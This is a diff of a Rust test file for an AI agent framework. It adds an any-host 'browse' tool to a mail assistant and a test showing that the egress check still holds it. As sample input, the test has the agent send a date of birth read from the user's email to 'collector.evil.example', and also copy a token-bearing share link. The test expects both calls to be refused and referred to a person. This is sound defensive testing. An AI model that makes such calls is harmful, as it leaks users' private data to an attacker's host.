@@ -57,6 +57,18 @@ async fn search_directory(cx: &ToolContext<'_>, query: String, scope: Option<Str
     Ok("no match".into())
 }
 
+/// Opens any page the user names (a browsing tool: any host).
+///
+/// # Arguments
+///
+/// * `url` - the page's address
+#[tool(permission = public, policy(net(hosts = ["*"])))]
+async fn browse(cx: &ToolContext<'_>, url: String) -> Result<String, String> {
+    bump(cx.session_id());
+    saw(cx.session_id(), format!("browse {url}"));
+    Ok("the page".into())
+}
+
 /// Counts the notes (stays inside the application).
 ///
 /// # Arguments
@@ -72,7 +84,7 @@ async fn count_notes(cx: &ToolContext<'_>, about: String) -> Result<String, Stri
 agent! {
     /// A mail assistant.
     pub struct Mail;
-    tools: [read_email, fetch_page, search_directory, count_notes],
+    tools: [read_email, fetch_page, search_directory, browse, count_notes],
 }
 
 agent! {
@@ -288,6 +300,29 @@ async fn a_host_outside_the_declared_ones_is_refused_before_anything_even_when_t
         assert!(reason.contains(named) && reason.contains("net hosts"), "{session}: {reason}");
         assert_eq!(call_statuses(&e.audit, &egress_call(&e.audit)), [AuditStatus::Denied], "{session}");
     }
+}
+
+/// A tool that may reach any host (`*`) is still under the egress check: a value of a tool
+/// result sent to a host nobody declared waits for a person; a page the user named, on any
+/// host, runs as a read; a URL that is not `http(s)` is still refused.
+#[tokio::test]
+async fn any_host_still_asks_a_person_for_a_copied_value() {
+    let leak = r#"{"url":"https://collector.evil.example/c?dob=2003-05-14"}"#;
+    let e = dialog("eg-any-leak", "what is in my mail?", "browse", leak, Verdict::Reject).await;
+    declined(&e, "argument `url` contains a value from the result of `read_email`");
+    let link = r#"{"url":"https://docs.example.com/share/token-abc123"}"#;
+    let e = dialog("eg-any-link", "what is in my mail?", "browse", link, Verdict::Reject).await;
+    declined(&e, "argument `url` was copied from the result of `read_email`");
+
+    let named = r#"{"url":"https://news.example.org/today"}"#;
+    let e = dialog("eg-any-user", "open https://news.example.org/today", "browse", named, Verdict::Reject).await;
+    assert_eq!(e.ran, 1, "the user's own page runs, on a host nobody listed");
+    assert!(e.cards.is_empty(), "nobody is asked");
+
+    let ftp = r#"{"url":"ftp://files.example.org/x"}"#;
+    let e = dialog("eg-any-ftp", "open ftp://files.example.org/x", "browse", ftp, Verdict::Approve).await;
+    assert_eq!(e.ran, 0, "only http(s) reaches a host");
+    assert_eq!(call_statuses(&e.audit, &egress_call(&e.audit)), [AuditStatus::Denied]);
 }
 
 #[tokio::test]
